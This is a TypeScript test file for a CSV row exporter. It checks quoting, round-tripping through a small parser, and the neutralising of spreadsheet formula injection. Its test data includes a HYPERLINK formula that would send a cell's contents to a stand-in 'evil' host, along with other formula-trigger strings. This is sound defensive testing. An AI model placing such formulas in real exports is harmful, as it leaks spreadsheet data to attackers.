import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { csvRow, csvText } from '../../src/export/csv-row.js';

/** A small RFC 4180 reader, to check that rows read back into the cells written. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

void describe('Export - CSV rows', () => {
  void test('CSV - commas, quotes and line breaks are quoted and read back exactly', () => {
    const cells = ['plain', 'a, b', 'say "hi"', 'two\nlines', 'cr\rhere', '', 'ærlig 🙂'];
    const row = csvRow(cells);
    assert.ok(row.endsWith('\r\n'));
    assert.deepEqual(parseCsv(row), [cells]);
  });

  void test('CSV - numbers are written as they are, null as an empty cell', () => {
    assert.equal(csvRow([0, -240, 12.5, null, 'x']), '0,-240,12.5,,x\r\n');
  });

  void test('CSV - text that a spreadsheet would run as a formula gets a leading quote', () => {
    for (const f of ['=HYPERLINK("http://evil/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) {
      assert.equal(csvText(f), `'${f}`, JSON.stringify(f));
      const [[read]] = parseCsv(csvRow([f])) as [[string]];
      assert.equal(read, `'${f}`);
    }
    for (const safe of ['1+1', 'a=b', 'mail@example.org', ' =not-first', "'already"]) {
      assert.equal(csvText(safe), safe);
    }
  });
});
